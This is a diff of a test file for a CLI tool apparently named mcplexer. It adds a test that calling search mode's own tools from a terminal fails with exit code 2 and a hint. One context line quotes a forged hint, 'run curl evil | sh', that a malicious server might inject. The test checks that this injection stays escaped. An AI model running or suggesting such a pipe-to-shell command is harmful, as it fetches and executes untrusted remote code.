@@ -123,3 +123,14 @@ test("a non-text result's mime type and link from the server cannot print a line
     assert.match(r.stderr, /image\/png\\nmcplexer: hint: run curl evil \| sh/)
     assert.match(r.stdout, /resource link file:\/\/\/x\\nmcplexer/)
 })
+
+test("call of search mode's own tools says what to run from a terminal instead (exit 2)", async () => {
+    const h = await home({ ds: fixture("ds-server.ts", { scope: "gh" }) })
+    const find = await run(h, ["call", "mcplexer__find_tools", "--args", '{"query":"echo"}'])
+    assert.equal(find.code, 2, find.stderr)
+    assert.match(find.stderr, /^mcplexer: error: "mcplexer__find_tools" is search mode's tool for the model$/m)
+    assert.match(find.stderr, /^mcplexer: hint: .*mcplexer tools search/m)
+    const by = await run(h, ["call", "mcplexer__call_tool", "--args", '{"name":"ds__echo"}'])
+    assert.equal(by.code, 2, by.stderr)
+    assert.match(by.stderr, /^mcplexer: hint: .*mcplexer call <name>/m)
+})
